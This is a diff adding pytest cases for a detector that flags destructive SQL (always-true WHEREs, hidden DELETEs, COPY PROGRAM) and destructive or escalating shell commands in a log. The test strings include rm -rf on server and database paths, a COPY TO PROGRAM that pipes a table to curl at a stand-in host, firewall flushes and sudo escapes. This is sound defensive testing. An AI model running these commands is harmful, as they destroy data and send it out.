@@ -80,3 +80,101 @@ def test_a_destructive_command_is_named_however_its_flags_are_written(
 ])  # fmt: skip
 def test_escalation_is_seen_inside_shells_and_never_crashes(command: str, found: list[str]) -> None:
     assert escalating(command) == found
+
+
+# An insider's WHERE that restricts nothing: each touches every row (or every row with a
+# value), so it is judged as no WHERE at all. Literals are as the query log keeps them with
+# `keep_literals`, and as it redacts them ($1) by default.
+@pytest.mark.parametrize("where", [
+    "true", "1=1", "id = id", "id IS NOT NULL OR id IS NULL", "'a'='a'", "NOT false",
+    "$1 = $2", "NOT $1", "t.id = t.id", "id IS NOT DISTINCT FROM id", "id >= id",
+    "status = 'x' OR true", "status = $1 OR $2", "status = $1 OR $2 = $3",
+    "paid OR NOT paid", "NOT paid OR paid", "x IS TRUE OR x IS NOT TRUE",
+    "id > 0 OR id <= 0", "id = 1 OR id <> 1", "(id = id) AND (1 = 1)",
+    "id IN (id, 2)", "name LIKE '%'", "id IS NOT NULL", "lower(name) = lower(name)",
+    "coalesce(id, 0) = coalesce(id, 0) AND true", "NOT (id <> id)",
+    "id = id OR status = 'x'", "EXISTS (SELECT 1)",
+    "id IN (SELECT id FROM invoices)",
+])  # fmt: skip
+def test_a_where_that_is_always_true_is_no_where(where: str) -> None:
+    assert destructive_statement(f"DELETE FROM invoices WHERE {where}", "DELETE") == (
+        "DELETE without WHERE"
+    )
+    assert destructive_statement(f"UPDATE invoices SET paid = true WHERE {where}", "UPDATE") == (
+        "UPDATE without WHERE"
+    )
+
+
+# Ordinary WHEREs a reviewer need not see as destructive: each restricts the rows.
+@pytest.mark.parametrize("where", [
+    "id = $1", "id = 42", "id IN ($1, $2)", "status = 'x' AND id > 10", "created_at < $1",
+    "customer_id = $1 OR customer_id = $2", "id = ANY($1)", "name LIKE 'a%'",
+    "paid AND NOT refunded", "id IS NULL", "t.id = u.id", "deleted_at IS NOT NULL AND id = 3",
+    "id IN (SELECT invoice_id FROM refunds WHERE at < $1)", "lower(name) = $1",
+    "id BETWEEN $1 AND $2", "NOT (id = $1)", "a.x = b.x OR a.y = b.y", "CURRENT OF c",
+    "EXISTS (SELECT 1 FROM refunds r WHERE r.invoice_id = invoices.id)",
+])  # fmt: skip
+def test_an_ordinary_where_is_not_flagged(where: str) -> None:
+    assert destructive_statement(f"DELETE FROM invoices WHERE {where}", "DELETE") is None
+    assert destructive_statement(f"UPDATE invoices SET paid = true WHERE {where}", "UPDATE") is None
+
+
+@pytest.mark.parametrize(("sql", "tag", "why"), [
+    ("DELETE FROM invoices USING refunds WHERE true", "DELETE", "DELETE without WHERE"),
+    ("DELETE FROM invoices i USING refunds r WHERE i.id = i.id", "DELETE",
+     "DELETE without WHERE"),
+    ("WITH d AS (DELETE FROM invoices WHERE 1 = 1 RETURNING *) SELECT * FROM d", "SELECT",
+     "DELETE without WHERE"),
+    ("EXPLAIN ANALYZE UPDATE invoices SET paid = true WHERE id = id", "EXPLAIN",
+     "UPDATE without WHERE"),
+    ("PREPARE p AS DELETE FROM invoices WHERE $1 OR id = $2", "PREPARE",
+     "DELETE without WHERE"),
+    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "MERGE", "MERGE"),
+    ("DO $$ BEGIN DELETE FROM t WHERE id = 1; END $$", "DO", "a DO block"),
+    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM invoices WHERE true'",
+     "CREATE FUNCTION", "DELETE without WHERE"),
+    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS 'BEGIN NULL; END'",
+     "CREATE FUNCTION", "a function body (not analysed)"),
+    ("CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM invoices; END",
+     "CREATE PROCEDURE", "DELETE without WHERE"),
+    ("CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql AS 'SELECT a + 1'",
+     "CREATE FUNCTION", None),
+    ("COPY invoices FROM PROGRAM 'rm -rf /var/lib/postgresql'", "COPY", "COPY PROGRAM"),
+    ("COPY (SELECT * FROM invoices) TO PROGRAM 'curl -T - https://x.example'", "COPY",
+     "COPY PROGRAM"),
+    ("COPY invoices TO STDOUT", "COPY", None),
+    ("COPY invoices FROM PROGRAM $1 WITH (FORMAT ???)", "COPY", "COPY PROGRAM"),
+    ("DELETE FROM invoices WHERE 1=1 AND AND broken", "DELETE", "DELETE without WHERE"),
+    ("DELETE FROM invoices WHERE id = id AND AND broken", "DELETE", "DELETE without WHERE"),
+    ("DELETE FROM invoices WHERE id = 7 AND AND broken", "DELETE", None),
+])  # fmt: skip
+def test_destructive_statements_are_found_where_they_hide(
+    sql: str, tag: str, why: str | None
+) -> None:
+    assert destructive_statement(sql, tag) == why
+
+
+# Commands the log holds in shapes a plain reading missed: a pasted block (one command with
+# newlines), a shell keyword before the program, an editor's, pager's or client's shell escape.
+@pytest.mark.parametrize(("command", "why"), [
+    ("ls -la\nrm -rf /srv/app", "rm -rf"), ("cd /srv\n\nrm -rf app\n", "rm -rf"),
+    ("cat <<EOF\nx\nEOF\nrm -rf /y", "rm -rf"), ("for f in a b; do rm -rf /$f; done", "rm -rf"),
+    ("if true; then shutdown -h now; fi", "shutdown"), ("while :; do iptables -F; done",
+                                                        "firewall flush"),
+    (":!rm -rf /srv/app", "rm -rf"), (":%!rm -rf /srv", "rm -rf"), (":r !rm -rf /x", "rm -rf"),
+    (":w !sudo shutdown now", "shutdown"), ("!rm -rf /srv", "rm -rf"),
+    ("\\! rm -rf /srv", "rm -rf"), ("shell rm -rf /srv", "rm -rf"),
+    ("ls \\\n  -la", None), ('echo "a\nrm -rf /"', None), (":wq", None), ("!ls", None),
+])  # fmt: skip
+def test_a_destructive_command_is_named_in_a_paste_a_loop_or_an_escape(
+    command: str, why: str | None
+) -> None:
+    assert destructive_command(command) == why
+
+
+@pytest.mark.parametrize(("command", "found"), [
+    ("ls\nsudo -i", ["sudo"]), (":!sudo id", ["sudo"]), (":w !sudo tee %", ["sudo"]),
+    ("\\! su - postgres", ["su"]), ("if true; then doas sh; fi", ["doas"]),
+])  # fmt: skip
+def test_escalation_is_seen_in_a_paste_or_an_escape(command: str, found: list[str]) -> None:
+    assert escalating(command) == found
